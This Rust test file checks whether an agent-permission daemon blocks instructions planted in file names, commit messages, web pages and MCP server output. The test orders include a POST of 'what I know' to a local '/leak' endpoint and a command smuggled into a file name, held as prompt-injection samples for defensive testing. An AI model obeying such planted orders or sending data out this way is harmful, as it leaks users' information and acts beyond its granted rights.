//! An agent reads an order and obeys it. Its rights and the rules of the user decide whether the ordered call runs.

use std::net::SocketAddr;

use serde_json::{Value, json};

use super::places::{PLACES, Place, create, order, touch};
use super::stage::{assert_denied, assert_lacks_right, play};

/// Returns the tool groups of an agent that can read every kind of order.
fn groups() -> Value {
    json!(["files", "command", "web", "mcp:letters"])
}

/// Checks that the model obeys an order if nothing prevents the ordered call. This check is needed because the other
/// tests would succeed with a model that never obeys.
#[test]
fn an_order_is_carried_out_where_rights_and_rules_allow_it() {
    for place in PLACES {
        let Some(played) = play(place, &groups(), &json!([]), |_| create()) else { continue };
        assert_eq!(played.obeyed().error(), None, "{place:?}");
        assert!(played.has_file(), "{place:?}");
    }
}

#[test]
fn an_order_needs_the_right_of_its_reader() {
    let page = |address: SocketAddr| order("fetch_page", &json!({"url": format!("http://{address}")}));
    for place in PLACES {
        // Each order demands a call that its reader has no right to make. The order in the file name demands a command
        // and not a page, because a file name cannot contain the slashes of a URL.
        let (tool, group) = match (place, place.group()) {
            (Place::FileName, _) => ("bash", "command"),
            (_, "files") => ("fetch_page", "web"),
            (_, _) => ("str_replace_editor", "files"),
        };
        let demanded = |address| match tool {
            "bash" => touch(),
            "fetch_page" => page(address),
            _ => create(),
        };
        let Some(played) = play(place, &json!([place.group()]), &json!([]), demanded) else { continue };
        assert_lacks_right(&played.obeyed(), tool, group);
        for asked in played.asked() {
            assert!(!asked.offered_tools().contains(&tool), "{place:?}: {:?}", asked.offered_tools());
        }
        assert!(!played.has_file(), "{place:?}");
        let visits = usize::from(place == Place::WebPage);
        assert_eq!(played.site.asked().len(), visits, "{place:?}");
        played.ended_with(0);
    }
}

/// At first, the agent may write files. As soon as it has read a file, a web page or a result of an MCP server with any
/// tool, a rule of the user denies writing. The rule does not fit an agent that has only read the description of a tool,
/// because polity remembers the sources of results only.
#[test]
fn a_rule_about_what_was_seen_stops_an_order() {
    let seen = ["files", "web", "mcp:letters"];
    let policy = json!([{"group": "files", "write": true, "seen": seen, "decide": "deny"}]);
    for place in PLACES.into_iter().filter(|place| *place != Place::ServerDescription) {
        let Some(played) = play(place, &groups(), &policy, |_| create()) else { continue };
        assert_denied(&played.obeyed(), "str_replace_editor");
        assert!(played.asked()[0].offered_tools().contains(&"str_replace_editor"), "{place:?}");
        assert!(!played.has_file(), "{place:?}");
    }
}

/// If no rule is configured, polity asks the user before an agent sends a POST request.
#[test]
fn the_person_is_asked_before_an_order_sends_anything_away() {
    let places = [
        Place::Instructions,
        Place::CommitMessage,
        Place::WebPage,
        Place::ServerResult,
        Place::ServerDescription,
    ];
    for place in places {
        let leak = |address: SocketAddr| {
            let url = format!("http://{address}/leak");
            order("http_request", &json!({"method": "POST", "url": url, "body": "what I know"}))
        };
        let Some(played) = play(place, &groups(), &json!([]), leak) else { continue };
        let output = played.ended_with(6);
        assert!(output.stderr.contains("wants to call http_request"), "{place:?}: {output:?}");
        assert!(played.site.asked().iter().all(|line| line.starts_with("GET ")), "{place:?}");
    }
}

/// A rule can deny all calls of a tool to a role. Then the daemon does not offer the tool to the agents of this role.
#[test]
fn a_tool_that_a_rule_denies_to_a_role_is_neither_offered_nor_run() {
    let policy = json!([{"role": "reader", "tool": "http_request", "decide": "deny"},
        {"role": "reader", "tool": "str_replace_editor", "write": true, "decide": "deny"}]);
    let leak = |address: SocketAddr| {
        order("http_request", &json!({"method": "GET", "url": format!("http://{address}/leak")}))
    };
    let groups = json!(["files", "web"]);
    let played = play(Place::Instructions, &groups, &policy, leak).expect("no git is needed");
    assert_denied(&played.obeyed(), "http_request");
    assert!(played.site.asked().is_empty());
    for asked in played.asked() {
        let offered = asked.offered_tools();
        assert!(!offered.contains(&"http_request") && offered.contains(&"fetch_page"), "{offered:?}");
        // The rule denies only those calls of this tool that write. So the tool is still offered, for reading.
        assert!(offered.contains(&"str_replace_editor"), "{offered:?}");
    }
    let root = played.asked_by_root().remove(0);
    assert!(root.offered_tools().contains(&"http_request"), "the rule is about another role");
}
